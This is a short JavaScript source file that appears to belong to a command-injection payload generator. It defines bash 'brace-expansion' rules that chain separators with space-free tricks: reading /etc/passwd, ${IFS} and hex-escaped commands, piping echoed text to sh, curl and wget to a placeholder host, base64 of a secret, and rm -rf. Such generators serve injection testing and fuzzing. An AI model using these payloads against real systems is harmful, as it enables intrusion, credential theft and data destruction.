// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of the shells
import { commandGenerator } from '../command-generator.js';

/** No space anywhere: braces, redirections and field separators of bash. */
export const braceExpansion = commandGenerator({
  name: 'brace-expansion',
  shells: ['bash'],
  rules: {
    start: ['{leave}{bare}{spaceless}{end}', '{inside}$({spaceless}){outside}', '{inside}`{spaceless}`{outside}'],
    bare: [';', '|', '||', '&&', '&', '\n'],
    spaceless: [
      '{cat,/etc/passwd}',
      '{ls,-la,/}',
      '{curl,-s,{host}}',
      '{ping,-c,{digit},{host}}',
      '{wget,{host}}',
      '{,cat,/etc/hosts}',
      'cat</etc/passwd',
      'cat<>/etc/passwd',
      '{echo,{letters}}|sh',
      '{nl,{secret}}',
      "X=$'cat\\x20/etc/passwd'&&$X",
      'cat${IFS}/etc/passwd',
      'sh<<<id',
      'bash<<<whoami',
      '{sleep,{digit}}',
      '{uname,-a}',
      '{e,c,}ho',
      '{rm,-rf,/tmp/{name}}',
      'base64<{secret}',
    ],
  },
});
